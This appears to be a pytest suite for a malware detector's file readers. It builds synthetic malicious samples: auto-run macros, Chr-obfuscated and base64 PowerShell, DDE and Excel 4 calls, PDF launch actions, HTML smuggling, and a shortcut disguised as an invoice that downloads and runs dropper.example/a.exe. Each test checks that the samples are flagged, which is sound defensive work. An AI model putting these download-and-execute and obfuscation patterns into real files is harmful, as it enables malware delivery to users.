"""The readers of documents, scripts, shortcuts and installers, on files made for it."""

import base64
import io
import random
import struct

import pytest

from tests.documents import make_docx
from tests.file_samples import (
    COMMAND,
    DROPPER,
    HARMLESS_MACRO,
    encode_command,
    make_doc,
    make_docm,
    make_harmless,
    make_lnk,
    make_msi,
    make_native,
    make_onenote,
    make_package,
    make_pdf_of,
    make_relation,
    make_rtf_object,
    make_vba_tree,
    make_xls,
)
from tests.outlook_messages import make_compound
from tests.unit.analysis.files.readers.reading import PROGRAM, list_codes, list_names, read


@pytest.mark.parametrize("name", make_harmless())
def test_what_is_sent_every_day_says_nothing_against_itself(name: str) -> None:
    parts = read(make_harmless()[name], name)
    # A verdict of suspicious takes 2.5 (verdicts.py).
    assert sum(weight for weight in list_codes(parts).values() if weight > 0) <= 0.5


def test_macros_that_fetch_and_start_on_opening_decide() -> None:
    for data, name in ((make_doc(DROPPER), "a.doc"), (make_docm(DROPPER), "a.docm")):
        parts = read(data, name)
        codes = list_codes(parts)
        assert codes["macro.starts-itself"] > 0
        assert codes["macro.downloads-and-executes"] >= 2.5
        assert codes["macro.starts-programs"] >= 2.5
        assert any(
            each.value.startswith("http://dropper.example/") for part in parts for each in part.indicators
        )


def test_a_macro_that_builds_its_command_from_codes_decides() -> None:
    name = " & ".join(f"Chr({ord(each)})" for each in "powershell ")
    source = (
        'Attribute VB_Name = "Module1"\r\nSub Document_Open()\r\n  Dim c\r\n'
        f'  c = {name} & "-w hidden -enc {encode_command()}"\r\n  Shell c, vbHide\r\nEnd Sub\r\n'
    )
    codes = list_codes(read(make_doc(source), "a.doc"))
    assert codes["macro.hidden-behaviour"] >= 2.5
    assert codes["macro.starts-programs"] >= 2.5


def test_macros_that_compute_hardly_count() -> None:
    assert sum(list_codes(read(make_doc(HARMLESS_MACRO), "a.doc")).values()) <= 0.5


def test_a_module_without_its_source_is_stomped() -> None:
    data = make_doc('Attribute VB_Name = "ThisDocument"\r\n', compiled=b"\x01\x16\x03" * 3000)
    assert list_codes(read(data, "a.doc"))["macro.stomped"] >= 2.5


def test_a_program_within_a_document_is_a_part() -> None:
    data = make_doc(extra={"ObjectPool": {"_1": {"\x01Ole10Native": make_native("a.exe", PROGRAM)}}})
    parts = read(data, "a.doc")
    assert "a.exe" in list_names(parts)
    assert list_codes(parts)["object.program"] > 2.5


@pytest.mark.parametrize(
    ("kind", "target", "weight"),
    [
        ("attachedTemplate", "http://dropper.example/t.dotm", 2.5),
        ("oleObject", "mhtml:http://dropper.example/x!x", 2.5),
        ("image", "http://pixel.example/1.png", 0.5),
    ],
)
def test_what_a_document_fetches_is_told(kind: str, target: str, weight: float) -> None:
    data = make_package(
        {"word/document.xml": "<w:document/>", "word/_rels/settings.xml.rels": make_relation(kind, target)}
    )
    assert list_codes(read(data, "a.docx"))[f"office.fetches-{kind.lower()}"] == weight


def test_a_field_torn_apart_still_starts_a_program() -> None:
    body = "<w:p><w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\cmd.exe /k calc</w:instrText></w:p>"
    assert list_codes(read(make_docx(body), "a.docx"))["office.dde"] >= 2.5


def test_excel_4_macros_that_call_programs_decide() -> None:
    data = make_package(
        {
            "xl/workbook.xml": '<workbook><sheet name="m" state="veryHidden"/>'
            '<definedName name="_xlnm.Auto_Open">m!A1</definedName></workbook>',
            "xl/macrosheets/sheet1.xml": '<c r="A1"><f>EXEC("cmd /c calc")</f></c>',
        }
    )
    codes = list_codes(read(data, "a.xlsm"))
    assert codes["macro.xlm"] >= 2.5
    assert codes["macro.xlm-calls"] >= 2.5


def test_excel_4_macros_of_old_workbooks_are_read() -> None:
    parts = read(make_xls("cmd /c calc"), "a.xls")
    codes = list_codes(parts)
    assert codes["macro.xlm"] >= 2.5
    assert codes["macro.xlm-calls"] >= 2.5


def encrypt_document(password: str) -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    output = io.BytesIO()
    # The library writes streams of less than 4,096 bytes so that it cannot read them.
    filler = random.Random(1).randbytes(8_000)
    plain = make_package(
        {
            "word/document.xml": "<w:document/>",
            "word/vbaProject.bin": make_compound(make_vba_tree(DROPPER)),
            "word/media/image1.png": b"\x89PNG" + filler,
        }
    )
    OOXMLFile(io.BytesIO(plain)).encrypt(password, output)
    return output.getvalue()


def test_encryption_that_only_hides_is_undone_and_told() -> None:
    parts = read(encrypt_document("VelvetSweatshop"), "a.xlsx")
    codes = list_codes(parts)
    assert codes["office.silent-password"] >= 2.5
    assert codes["macro.starts-programs"] >= 2.5


def test_an_encrypted_document_opens_with_the_given_password() -> None:
    data = encrypt_document("correct horse")
    assert "macro.starts-programs" in list_codes(read(data, "a.docm", passwords=("correct horse",)))
    assert "archive.locked" in list_codes(read(data, "a.docm"))


def test_entities_in_a_document_are_refused_and_told() -> None:
    bomb = '<!DOCTYPE c [<!ENTITY a "aa"><!ENTITY b "&a;&a;&a;&a;">]><c>&b;</c>'
    data = make_package({"word/document.xml": "<w:document/>", "docProps/core.xml": bomb})
    assert "office.entities" in list_codes(read(data, "a.docx"))


def test_the_equation_editor_in_rtf_is_told() -> None:
    codes = list_codes(read(make_rtf_object(b"Equation.3", bytes(64)), "a.rtf"))
    assert codes["object.equation"] >= 2.5
    assert "rtf.updates" in codes


def test_a_file_in_a_note_is_a_part() -> None:
    parts = read(make_onenote(b"<job><script language='VBScript'>x</script></job>"), "a.one")
    assert len(parts) == 2
    assert list_codes(parts)["onenote.program"] >= 2.5


def test_a_pdf_that_hides_what_it_starts_is_told() -> None:
    data = make_pdf_of(
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
        "<< /Type /Pages /Kids [] /Count 0 >>",
        "<< /S /J#61vaScript /JS (app.alert\\(1\\);) >>",
        "<< /S /Launch /F (cmd.exe) >>",
        "<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
        "<< /Type /EmbeddedFile /Length 202 >>\nstream\n" + PROGRAM.decode("latin-1") + "\nendstream",
    )
    parts = read(data, "a.pdf")
    codes = list_codes(parts)
    assert codes["pdf.hidden-names"] >= 2.5
    assert codes["pdf.launch"] >= 2.5
    assert codes["pdf.script-on-open"] > 0
    assert "a.exe" in list_names(parts)


def test_objects_in_object_streams_are_read() -> None:
    import zlib

    inner = b"9 0 << /S /URI /URI (http://linked.example/here) >>"
    packed = zlib.compress(inner).decode("latin-1")
    data = make_pdf_of(
        "<< /Type /Catalog >>",
        f"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(packed)} >>\n"
        f"stream\n{packed}\nendstream",
    )
    found = {each.value for part in read(data, "a.pdf") for each in part.indicators}
    assert "http://linked.example/here" in found


@pytest.mark.parametrize(
    ("script", "name"),
    [
        (f"@echo off\npowershell -w hidden -enc {encode_command()}\n", "a.bat"),
        (
            "Execute(" + " & ".join(f"Chr({ord(each)})" for each in COMMAND) + ")\nSet a = CreateObject(b)\n",
            "a.vbs",
        ),
        (
            f"$a = '{base64.b64encode(COMMAND.encode()).decode()}'\n[Convert]::FromBase64String($a) | IEX\n",
            "a.ps1",
        ),
        (
            "var a = new ActiveXObject(b); eval('" + "".join(f"\\x{ord(c):02x}" for c in COMMAND) + "')",
            "a.js",
        ),
        (
            f"$a = [array]::Reverse('{COMMAND.replace(chr(39), chr(34))[::-1]}')\nWrite-Host $a\n".replace(
                '"', ""
            ),
            "b.ps1",
        ),
    ],
)
def test_what_a_script_hides_is_decoded(script: str, name: str) -> None:
    parts = read(script.encode(), name)
    assert list_codes(parts)["script.hidden-behaviour"] >= 2.5


def test_a_program_in_a_script_becomes_a_part() -> None:
    text = f'$b = [Convert]::FromBase64String("{base64.b64encode(PROGRAM).decode()}")\nWrite-Host $b\n'
    parts = read(text.encode(), "a.ps1")
    assert parts[1].size == len(PROGRAM)
    assert parts[1].relation == "decodes-to"


def test_a_page_that_makes_a_file_and_takes_a_password_is_told() -> None:
    payload = base64.b64encode(bytes(6000)).decode()
    page = (
        "<html><form action='https://taker.example/in'><input type='password'></form>"
        f"<script>var a=atob('{payload}');var b=new Blob([new Uint8Array(3)]);"
        "l.href=URL.createObjectURL(b);l.download='a.zip'</script></html>"
    )
    codes = list_codes(read(page.encode(), "a.html"))
    assert codes["html.smuggling"] >= 2.5
    assert codes["html.password-sent"] >= 2.5


def test_a_shortcut_that_looks_like_a_document_and_fetches_decides() -> None:
    command = "/c powershell iwr http://dropper.example/a.exe -o a.exe; Start-Process a.exe"
    data = make_lnk("..\\..\\Windows\\System32\\cmd.exe", command, "C:\\Reader\\AcroRd32.exe")
    codes = list_codes(read(data, "invoice.lnk"))
    assert codes["shortcut.icon"] >= 2.5
    assert codes["shortcut.downloads-and-executes"] >= 2.5


def test_a_shortcut_to_another_machine_is_told() -> None:
    data = (
        b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/a.exe\r\nIconFile=\\\\198.51.100.7\\i.ico\r\n"
    )
    codes = list_codes(read(data, "a.url"))
    assert codes["shortcut.remote"] >= 2.5
    assert codes["shortcut.remote-icon"] >= 2.5


def test_what_an_installer_runs_is_told() -> None:
    parts = read(make_msi("powershell -w hidden Start-Process a.exe", 34), "a.msi")
    assert parts[0].media == "application/x-msi"
    assert {fact.value for fact in parts[0].facts if fact.name == "ProductName"} == {"Viewer"}
    assert "msi.command" in list_codes(parts)


def test_an_unknown_code_page_does_not_end_the_reading() -> None:
    data = make_msi("powershell -w hidden Start-Process a.exe", 34)
    changed = data.replace(struct.pack("<HHHH", 1252, 0, 12, 1), struct.pack("<HHHH", 1279, 0, 12, 1))
    assert changed != data
    assert "msi.command" in list_codes(read(changed, "a.msi"))


def test_an_archive_behind_a_picture_is_a_part() -> None:
    picture = b"\x89PNG\r\n\x1a\n" + bytes(4) + b"IEND" + bytes(4)
    parts = read(picture + make_package({"a.txt": "x" * 100}), "a.png")
    assert "image.appended" in list_codes(parts)
    assert len(parts) >= 2
